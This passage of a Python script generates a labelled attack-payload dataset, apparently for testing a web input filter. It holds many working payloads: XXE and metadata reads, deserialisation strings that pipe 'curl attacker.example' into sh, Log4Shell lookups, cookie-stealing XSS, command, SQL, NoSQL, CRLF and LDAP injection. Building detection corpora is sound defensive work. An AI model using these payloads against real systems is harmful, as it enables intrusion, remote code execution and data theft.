    ("rent-roll-csv-formula", "+WEBSERVICE(\"http://attacker.example/\"&B2)"),
    ("rent-roll-csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("hoa-ledger-csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",C2:C40),\"//a\")"),
    ("bim-ifc-xxe", "<?xml version=\"1.0\"?><!DOCTYPE ifc [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><ifcXML><Name>&x;</Name></ifcXML>"),
    ("submittal-xml-xxe", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><submittal><section>09 29 00</section></submittal>"),
    ("mismo-xml-xxe", "<!DOCTYPE MESSAGE [<!ENTITY inc SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><MESSAGE><DEAL><LOAN>&inc;</LOAN></DEAL></MESSAGE>"),
    ("floorplan-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///app/.env\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>"),
    ("rfi-xml-xinclude", "<rfi xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></rfi>"),
    ("docx-xml-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><lease>&d;</lease>"),
    ("session-pickle-deser", "gASVJgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAtpZCA+IC90bXAvcJSFlFKULg=="),
    ("session-pickle-deser", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("import-yaml-deser", "!!python/object/apply:os.system [\"curl -s attacker.example/y | sh\"]"),
    ("import-yaml-deser", "listing: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("php-unserialize", "O:8:\"Listing\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-unserialize", "a:1:{i:0;O:12:\"LeaseMailer\":1:{s:3:\"cmd\";s:2:\"id\";}}"),
    ("java-deser-base64", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"),
    ("dotnet-viewstate-deser", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("jackson-polymorphic-deser", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/j\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.21:1099/x\",\"autoCommit\":true}"),
    ("calc-field-python-eval", "__import__('os').system('id')"),
    ("calc-field-python-eval", "1450*0 + eval(compile('import socket,os;os.system(\"id\")','x','exec'))"),
    ("calc-field-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("calc-field-php-eval", "1450; system('id'); //"),
    ("calc-field-ruby-eval", "1450; `curl attacker.example`"),
    ("plain-code-ssti", "{{7*'7'}}{{config}}"),
    ("plain-code-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-code-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-code-csv-formula", "=1+1+cmd|' /C calc'!A1"),
    ("mortgage-employer-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("listing-desc-ssti-jinja2+hex-escape", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}"),
    ("listing-json-proto-pollution+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("maintenance-note-log4shell+case-lookup", "${${upper:j}${upper:n}${lower:D}${lower:I}:ldap://198.51.100.77/c}"),
]

# --------------------------------------------------------------------------- nosqli
NOSQLI = [
    ("tenant-login-mongo-operator", "{\"email\":\"manager@acme-pm.example\",\"password\":{\"$ne\":null}}"),
    ("tenant-login-mongo-operator", "{\"email\":{\"$regex\":\"^adm\"},\"password\":{\"$gt\":\"\"}}"),
    ("tenant-login-mongo-bracket", "password[$ne]=x"),
    ("tenant-login-mongo-bracket", "email[$regex]=.*&password[$exists]=true"),
    ("listing-filter-mongo-where", "{\"$where\":\"sleep(5000) || true\"}"),
    ("listing-filter-mongo-where", "'; return this.price < 0 || true; var x='"),
    ("listing-filter-mongo-operator", "{\"price\":{\"$lt\":999999999},\"status\":{\"$in\":[\"draft\",\"withdrawn\",\"private\"]}}"),
    ("listing-filter-mongo-regex-blind", "{\"agent.api_key\":{\"$regex\":\"^sk_a\"}}"),
    ("lockbox-code-mongo-operator", "{\"unit\":\"4B\",\"pin\":{\"$nin\":[\"0000\"]}}"),
    ("maintenance-search-mongo-expr", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(4000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("maintenance-aggregate-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}]"),
    ("hoa-ledger-mongo-or", "{\"$or\":[{\"unit\":\"12-A\"},{\"unit\":{\"$ne\":\"12-A\"}}]}"),
    ("rfi-query-couchdb-selector", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"password_scheme\",\"derived_key\"]}"),
    ("tenant-search-elastic-script", "{\"script\":{\"source\":\"java.lang.Math.class.forName('java.lang.Runtime')\"}}"),
    ("listing-cache-redis-eval", "EVAL \"return redis.call('CONFIG','GET','*')\" 0"),
    ("mortgage-app-mongo-js", "1; db.applicants.find().forEach(function(d){printjson(d)})"),
    ("tenant-reset-mongo-bracket", "token[$regex]=^a.*"),
    ("listing-graphql-filter", "{\"query\":\"{ listings(where: {owner: {password_hash_not: null}}) { owner { email password_hash } } }\"}"),
    ("plain-nosqli-ne", "{\"$ne\": null}"),
    ("plain-nosqli-gt", "{\"$gt\": \"\"}"),
    ("tenant-login-mongo-bracket", "email=manager%40acme-pm.example&password[$gt]="),
    ("listing-filter-mongo-where", "{\"$where\":\"this.owner_ssn.match(/^123/)\"}"),
    ("unit-lookup-mongo-regex", "{\"unit\":{\"$regex\":\".*\",\"$options\":\"si\"}}"),
    ("work-order-mongo-update", "{\"$set\":{\"role\":\"admin\",\"approved\":true}}"),
    ("tenant-login-mongo-bracket+urlenc", "password%5B%24ne%5D=1"),
]

# --------------------------------------------------------------------------- crlf
CRLF = [
    ("maintenance-note-log-forge", "Sink leak fixed\n2025-04-02 09:14:11 INFO user=admin action=refund amount=2150 status=approved"),
    ("maintenance-note-log-forge", "Heat off\r\n[AUDIT] lease LS-2025-0412 terminated by landlord (id 1)"),
    ("smartlock-log-forge", "code 2 (cleaner)\n2025-03-03T14:48:00Z door=front result=UNLOCK user=owner"),
    ("tour-redirect-header-split", "/tours/4821\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("tour-redirect-header-split", "https://tours.example-realty.com/3d\r\nLocation: https://attacker.example/"),
    ("tour-redirect-header-split", "/plan?id=4821\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("download-filename-header", "Lease_Unit-4B.pdf\"\r\nContent-Type: text/html\r\nX-Injected: 1"),
    ("lang-cookie-header", "en-US\r\nSet-Cookie: role=admin"),
    ("showing-request-mail-header", "jdoe@example.com\r\nBcc: everyone@attacker.example"),
    ("showing-request-mail-header", "Showing Sat 10am\r\nCc: list@attacker.example\r\nSubject: Your account is locked"),
    ("tenant-contact-mail-header", "María López <maria@example.com>\nReply-To: billing@attacker.example"),
    ("hoa-notice-mail-body", "Water shut-off Thu\r\n\r\nPlease update your ACH details at https://attacker.example/pay"),
    ("mortgage-name-smtp-smuggle", "John Doe\r\n.\r\nMAIL FROM:<ceo@lender.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nwire funds now\r\n."),
    ("vendor-invoice-csv-row", "Acme Roofing\n\"=HYPERLINK(\"\"https://attacker.example\"\")\",0,paid"),
    ("rfi-subject-log-forge", "RFI-042\n[ERROR] security: admin password reset for user pm-admin succeeded"),
    ("submittal-status-header", "APPROVED\r\nX-Forwarded-For: 127.0.0.1"),
    ("bms-alarm-syslog", "AHU-1 supply temp high\n<34>Apr  2 09:15:00 bms01 sshd[411]: Accepted password for root from 203.0.113.5"),
    ("webhook-header-value", "lock-4b\r\nAuthorization: Bearer FAKE-TOKEN-PLACEHOLDER"),
    ("redis-cache-key", "listing:4821\r\nFLUSHALL\r\n"),
    ("plain-crlf-header", "\r\nSet-Cookie: a=b"),
    ("work-order-export-header", "WO-7781\r\nContent-Disposition: attachment; filename=invoice.html"),
    ("listing-inquiry-mail-header", "Interested in 3BR!\nTo: all-tenants@acme-pm.example\nSubject: Rent now due to new account"),
    ("access-log-forge", "fob 00451 denied\r\n2025-04-01 18:02:11 door=roof result=GRANTED fob=00001"),
    ("smtp-helo-param", "Exec Staffing\r\nRCPT TO:<payroll@attacker.example>"),
    ("plain-crlf-log", "ok\nFAKE LOG LINE: admin login success"),
    ("plain-crlf-mail", "a@example.com\r\nBcc: b@attacker.example"),
    ("tour-redirect-header-split+urlenc", "/tours/4821%0d%0aSet-Cookie:%20sid=fixed"),
    ("lang-cookie-header+double-urlenc", "fr-FR%250d%250aLocation:%2520https://attacker.example/"),
    ("download-filename-header+unicode-newline", "A-201.pdf\u560d\u560aSet-Cookie: x=1"),
]

# --------------------------------------------------------------------------- ldap / xpath
LDAP_XPATH = [
    ("staff-directory-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("staff-directory-ldap-or", "jdoe)(|(objectClass=*)"),
    ("staff-login-ldap-bypass", "admin)(&)"),
    ("staff-login-ldap-bypass", "*)(userPassword=*)"),
    ("staff-directory-ldap-blind", "pm*)(description=sk_*"),
    ("staff-group-ldap-inject", "maintenance)(memberOf=cn=Domain Admins,cn=Users,dc=acme,dc=local"),
    ("tenant-directory-ldap-attr", "Kowalski)(telephoneNumber=*)(cn=*"),
    ("building-ou-ldap-null", "ou=Building C\\00)(objectClass=*"),
    ("lease-xml-xpath-or", "LS-2025-0412' or '1'='1"),
    ("lease-xml-xpath-or", "' or 1=1 or ''='"),
    ("listing-xml-xpath-union", "4821'] | //agent/password | //listing[id='x"),
    ("listing-xml-xpath-blind", "4821' and substring(//user[1]/password,1,1)='a"),
    ("mismo-xml-xpath-count", "x' or count(//BORROWER)>0 or 'a'='b"),
    ("rfi-xml-xpath-name", "RFI-042' or name(/*[1])='rfilog' or 'x'='y"),
    ("unit-xml-xpath-doc", "12-A'] | document('file:///etc/passwd') | //unit['"),
    ("inspection-xml-xquery", "PL-0127\" or string-length(//inspector/apikey)>10 or \"\"=\""),
    ("plain-ldap-wildcard", "*)(cn=*"),
    ("plain-xpath-or", "' or '1'='1"),
    ("plain-ldap-or", "*)(|(objectClass=*))"),
    ("plain-xpath-union", "'] | //* | //*['"),
    ("staff-directory-ldap-wildcard+hex-escape", "\\2a)(uid=\\2a"),
    ("listing-xml-xpath-or+urlenc", "4821%27%20or%20%271%27%3D%271"),
]

# ---- template pools (all hand-written) --------------------------------------
PREFIX = {
    "sqli": ["Unit 4B", "3BR/2BA", "RFI-0", "09 29 00", "PL-01", "Union Pacific"],
    "xss": ["Sunny 2BR ", "Note: ", "Dwg A-201 Rev C ", "Apt #4B ", "HOA minutes: "],
    "cmdi": ["A-201_RevC.dwg", "IMG_3301.jpg", "lock-5c.local", "S-201.pdf", "4321-012-034"],
    "traversal": ["photos/2025/", "Submittals/", "leases/", "sheets/", ""],
    "ssrf": ["http://", "https://"],
    "code": ["Employer: ", "Tenant: ", "Listing: ", "Item 7: ", ""],
}
SQLI_TAILS = [
    ("sqli-union", "' UNION SELECT email, pw_hash FROM users--"),
    ("sqli-boolean", "' OR 'x'='x"),
    ("sqli-time", "' AND SLEEP(5)-- -"),
    ("sqli-time-pg", "'||pg_sleep(5)--"),
    ("sqli-stacked", "'; DELETE FROM units;--"),
]
XSS_TAILS = [
    ("xss-img-onerror", "<img src=q onerror=alert(document.cookie)>"),
    ("xss-svg-onload", "<svg/onload=fetch('//attacker.example/'+document.cookie)>"),
    ("xss-script", "<script>document.location='//attacker.example/?'+document.cookie</script>"),
    ("xss-iframe-js", "<iframe src=javascript:alert(origin)>"),
]
CMDI_TAILS = [
    ("cmdi-semicolon", "; curl http://203.0.113.7/s | sh"),
    ("cmdi-subshell", "$(wget -qO- attacker.example/x|sh)"),
    ("cmdi-backtick", "`id`"),
    ("cmdi-and", " && cat /etc/passwd"),
]
TRAV_TAILS = [
    ("traversal-dotdot", "../../../../../etc/passwd"),
    ("traversal-dotdot-win", "..\\..\\..\\..\\Windows\\win.ini"),
    ("traversal-dotdot-env", "../../../../proc/self/environ"),
]
SSRF_HOSTS = [
    ("ssrf-metadata", "169.254.169.254/latest/meta-data/"),
    ("ssrf-localhost", "127.0.0.1:{port}/admin"),
    ("ssrf-internal", "10.0.{a}.{b}:{port}/"),
]
CODE_TAILS = [
    ("code-log4shell", "${{jndi:ldap://{h}.attacker.example/a}}"),
    ("code-ssti-jinja2", "{{{{ cycler.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("code-el-spel", "${{T(java.lang.Runtime).getRuntime().exec('{c}')}}"),
]
CTX = {"sqli": "listing-search", "xss": "listing-desc", "cmdi": "cad-filename",
       "traversal": "cad-path", "ssrf": "virtual-tour-url", "code": "mortgage-employer"}
CMDS = ["id", "whoami", "uname -a", "hostname"]


def tmpl(cat, r):
    if cat == "sqli":
        cls, tail = r.choice(SQLI_TAILS)
        return f"{CTX[cat]}-{cls[5:]}", f"{r.choice(PREFIX[cat])}{r.randint(1, 99)}{tail}"
    if cat == "xss":
        cls, tail = r.choice(XSS_TAILS)
        return f"{CTX[cat]}-{cls[4:]}", f"{r.choice(PREFIX[cat])}{r.randint(1, 5)}BR {tail}"
    if cat == "cmdi":
        cls, tail = r.choice(CMDI_TAILS)
        v = f"{r.choice(PREFIX[cat])}{tail}"
        if r.random() < 0.3:
            return f"{CTX[cat]}-{cls[5:]}+urlenc", quote(v, safe="")
        return f"{CTX[cat]}-{cls[5:]}", v
    if cat == "traversal":
        cls, tail = r.choice(TRAV_TAILS)
        return f"{CTX[cat]}-{cls[10:]}", f"{r.choice(PREFIX[cat])}{r.randint(2019, 2025)}/{tail}"
    if cat == "ssrf":
        cls, host = r.choice(SSRF_HOSTS)
        host = host.format(port=r.choice([80, 8080, 8443, 9000, 5984]), a=r.randint(0, 9), b=r.randint(2, 250))
        return f"{CTX[cat]}-{cls[5:]}", f"{r.choice(PREFIX[cat])}{host}?tour={r.randint(1000, 9999)}"
    cls, tail = r.choice(CODE_TAILS)
    v = tail.format(h=f"u{r.randint(100, 999)}", c=r.choice(CMDS))
    return f"{CTX[cat]}-{cls[5:]}", f"{r.choice(PREFIX[cat])}{v}"


CATS = [
    ("sqli", SQLI, 13), ("xss", XSS, 10), ("cmdi", CMDI, 14), ("traversal", TRAVERSAL, 8),
    ("ssrf", SSRF, 9), ("code", CODE, 6), ("nosqli", NOSQLI, 0), ("crlf", CRLF, 0),
    ("ldap-xpath", LDAP_XPATH, 0),
]


def main():
    r = random.Random(SEED)
    rows, seen = [], set()
    counts = {}
    lit_total = 0
    for cat, lits, n_tmpl in CATS:
        n_lit = 0
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        made, tries = 0, 0
        while made < n_tmpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"{cat}: template exhausted")
            cls, v = tmpl(cat, r)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        counts[cat] = (n_lit + made, n_lit)
        lit_total += n_lit
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        bvals = {json.loads(line)["value"] for line in benign.read_text(encoding="utf-8").splitlines()}
        clash = sorted(v for _, _, v in rows if v in bvals)
        if clash:
            raise SystemExit(f"values present in benign.jsonl: {clash[:3]}")
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800
            obj = {"id": f"ha31-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for cat, (n, nl) in counts.items():
        print(f"{cat:12s} n={n:3d} literals={nl}")
    print(f"total={len(rows)} literals={lit_total} ({100 * lit_total / len(rows):.1f}%)")


if __name__ == "__main__":
    main()
